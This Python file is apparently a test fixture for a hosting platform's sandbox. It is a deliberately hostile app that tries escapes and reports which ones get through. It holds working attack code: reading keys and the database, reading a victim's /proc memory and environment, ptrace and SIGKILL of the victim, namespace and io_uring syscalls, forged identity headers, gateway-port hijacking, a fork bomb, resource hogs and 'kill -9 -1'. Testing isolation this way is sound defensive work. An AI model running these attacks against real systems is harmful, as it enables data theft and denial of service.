"""A hostile app: tries every escape, and says what happened.

`python3 hostile.py install` (as its install step) and `python3
hostile.py serve` (as the app) read targets.json beside them (written by
the test: the platform's data directory, the victim's address and
process, the platform's ports) and try each attack, recording for each
whether it got through ("escaped") or what stopped it. `serve` then
serves on $PORT: /report, /forkbomb, /hog, /burn and /stolen.
"""
import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HERE = os.path.dirname(os.path.abspath(__file__))
TARGETS = json.load(open(os.path.join(HERE, "targets.json")))
DATA = TARGETS["data"]
stolen = []


def attempt(results, name, action):
    try:
        got = action()
        results[name] = "escaped: " + repr(got)[:200]
    except Exception as e:  # what stopped it
        results[name] = "stopped: " + type(e).__name__ + ": " + str(e)[:200]


def connect(addr):
    s = socket.create_connection(addr, timeout=2)
    s.close()
    return "connected to %s" % (addr,)


def read(path):
    with open(path, "rb") as f:
        return f.read(64)


def listdir(path):
    names = os.listdir(path)
    # The way to its own directory is all it may see.
    own = set(os.getcwd().split(os.sep))
    if all(name in own for name in names):
        raise PermissionError("only the way to its own directory: %r" % names)
    return names


def forge_through_internal():
    # The internal listener is its way to call services, for a user the
    # gateway vouches for (a provenance token): forged identity, no token.
    s = socket.create_connection(("127.0.0.1", TARGETS["internal_port"]), timeout=5)
    s.sendall(b"GET /?q=secret HTTP/1.1\r\nHost: search\r\nX-Commons-User: alice\r\n"
              b"X-Commons-Tier: premium\r\nConnection: close\r\n\r\n")
    status = s.recv(100).split(b"\r\n")[0].decode()
    if " 2" in status[8:10]:
        return status
    raise PermissionError("refused: " + status)


def other_processes():
    mine = {os.getpid(), os.getppid(), 1}
    others = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = open("/proc/%s/cmdline" % pid, "rb").read().replace(b"\0", b" ")
        except OSError:
            continue
        if b"hostile.py" not in cmd and b"bwrap" not in cmd and int(pid) not in mine:
            others.append(cmd.decode(errors="replace"))
    if not others:
        raise PermissionError("sees only its own processes")
    return others


def ptrace_victim():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, TARGETS["victim_pid"], 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "attached"


def steal_gateway_port():
    # SO_REUSEPORT on the gateway's own address: a share of its connections?
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("127.0.0.1", TARGETS["gateway_port"]))
    s.listen(64)

    def accept():
        while True:
            conn, _ = s.accept()
            stolen.append(conn.recv(4096).decode(errors="replace"))
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    raise PermissionError("bound its own namespace's port only: connections stolen are counted at /stolen")


def unshare_user():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "a user namespace of its own"


def not_root():
    if os.geteuid() == 0:
        return "it runs as root"
    raise PermissionError("runs as uid %d, not the platform's" % os.geteuid())


def clone_user_namespace():
    # clone(2) itself, not unshare(2): a child in a user namespace of its own.
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)  # SYS_clone, CLONE_NEWUSER | SIGCHLD
    if pid == 0:
        os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0)
    return "a child in a user namespace of its own"


def io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 4, params)  # SYS_io_uring_setup
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "an io_uring"


def attacks(stage):
    results = {}
    attempt(results, "run as the platform's user", not_root)
    for name in ["node.key", "gateway.key", "commons.db", "commons.db-wal"]:
        attempt(results, "read " + name, lambda n=name: read(os.path.join(DATA, n)))
    attempt(results, "list the write-ahead log", lambda: listdir(os.path.join(DATA, "wal")))
    attempt(results, "list the data directory", lambda: listdir(DATA))
    attempt(results, "list the node's sites", lambda: listdir(TARGETS["node_dir"]))
    attempt(results, "read the victim's files", lambda: listdir(TARGETS["victim_dir"]))
    attempt(results, "read the victim's app", lambda: read(os.path.join(TARGETS["victim_dir"], "app.log")))
    attempt(results, "see other processes", other_processes)
    attempt(results, "read the victim's memory", lambda: read("/proc/%d/mem" % TARGETS["victim_pid"]))
    attempt(results, "read the victim's environment", lambda: read("/proc/%d/environ" % TARGETS["victim_pid"]))
    attempt(results, "signal the victim", lambda: os.kill(TARGETS["victim_pid"], signal.SIGKILL))
    attempt(results, "trace the victim", ptrace_victim)
    attempt(results, "a user namespace", unshare_user)
    attempt(results, "a user namespace through clone", clone_user_namespace)
    attempt(results, "io_uring", io_uring)
    attempt(results, "call a service as someone else", forge_through_internal)
    for port_name in ["victim_port", "gateway_port", "internal_port", "control_port"]:
        if port_name != "internal_port":  # forwarded: its way to call services
            attempt(results, "connect to the " + port_name, lambda p=port_name: connect(("127.0.0.1", TARGETS[p])))
        attempt(results, "connect to the host's address, " + port_name,
                lambda p=port_name: connect((TARGETS["host_ip"], TARGETS[p])))
    attempt(results, "connect to PostgreSQL", lambda: connect(("127.0.0.1", 5432)))
    attempt(results, "connect to PostgreSQL's socket",
            lambda: socket.socket(socket.AF_UNIX).connect("/run/postgresql/.s.PGSQL.5432"))
    attempt(results, "write to the system", lambda: open("/usr/hostile", "w"))
    attempt(results, "write to the cgroup fs", lambda: open("/sys/fs/cgroup/pids/pids.max", "w").write("max"))
    if stage == "serve":
        attempt(results, "bind the gateway's port", steal_gateway_port)
    return results


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        if self.path == "/healthz":
            return self.reply({"ok": True})
        if self.path == "/report":
            installed = json.load(open(os.path.join(HERE, "install-report.json")))
            return self.reply({"install": installed, "serve": REPORT})
        if self.path == "/stolen":
            return self.reply({"stolen": stolen})
        if self.path == "/forkbomb" and os.geteuid() == 0:
            return self.reply({"refused": "unconfined: this would take the machine down"}, 409)
        if self.path == "/forkbomb":
            # Forks until the system says no, in a session of its own.
            subprocess.Popen(["setsid", "sh", "-c", "b() { b & b & }; b; sleep 30"])
            return self.reply({"forking": True})
        if self.path == "/burn":
            # CPU in a child that leaves the process group and the session.
            subprocess.Popen(["setsid", sys.executable, "-c",
                              "import time\nwhile time.process_time() < 2: pass\n"
                              "open(%r, 'w').write(str(int(time.process_time() * 1000)))"
                              % os.path.join(HERE, "burned.txt")])
            return self.reply({"burning": True})
        if self.path == "/burned":
            return self.reply({"ms": int(open(os.path.join(HERE, "burned.txt")).read())})
        if self.path == "/hog":
            held = bytearray(1 << 30)  # 1 GiB, touched
            return self.reply({"held": len(held)})
        self.reply({"path": self.path}, 404)

    def reply(self, body, status=200):
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


if __name__ == "__main__":
    if sys.argv[1] == "install":
        report = attacks("install")
        json.dump(report, open(os.path.join(HERE, "install-report.json"), "w"))
        # Last, as this very process: kill(-1), every process it may
        # signal but itself (the victim, the platform?), then succeed.
        # Never as root: unconfined (a broken platform), that would kill
        # the whole machine the test runs on, not just fail the test.
        if os.geteuid() != 0:
            os.execvp("sh", ["sh", "-c", "kill -9 -1; exit 0"])
    else:
        REPORT = attacks("serve")
        ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
